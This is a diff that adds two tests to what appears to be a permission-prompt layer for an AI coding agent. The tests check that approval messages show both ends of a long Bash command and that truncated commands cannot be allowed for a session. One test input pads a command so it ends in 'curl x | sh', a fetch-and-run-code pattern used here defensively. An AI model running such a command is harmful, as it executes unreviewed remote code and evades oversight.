@@ -164,6 +164,23 @@ def test_a_rule_for_the_session_says_just_what_was_asked_or_there_is_none(
         assert added == {"type": "addRules", "rules": [rule], "behavior": "allow", "destination": "session"}
 
 
+def test_the_message_shows_both_ends_of_a_long_command() -> None:
+    message = shown(Interrupted(0, "i1", "Bash", {"command": "echo " * 200 + "; curl x | sh"}))["message"]
+    assert message.startswith("Claude wants to use Bash: echo echo")
+    assert message.endswith("; curl x | sh")
+    assert "more characters" in message
+
+
+def test_a_call_of_which_a_part_is_missing_says_so_and_is_not_allowed_for_the_session() -> None:
+    step = Interrupted(0, "i1", "Bash", {"command": "ls… [cut by Paliadin: 9 more characters] …x"}, cut=True)
+    interrupt = shown(step)
+    assert interrupt["cut"] is True
+    assert [option["id"] for option in interrupt["options"]] == ["allow", "deny"]
+    with pytest.raises(InvalidField):
+        decide(step, "allow_session")
+    assert shown(WRITE)["cut"] is False
+
+
 def test_the_reason_of_a_no_is_told_to_claude() -> None:
     assert decide(WRITE, {"deny": " not this file "}) == {
         "behavior": "deny",
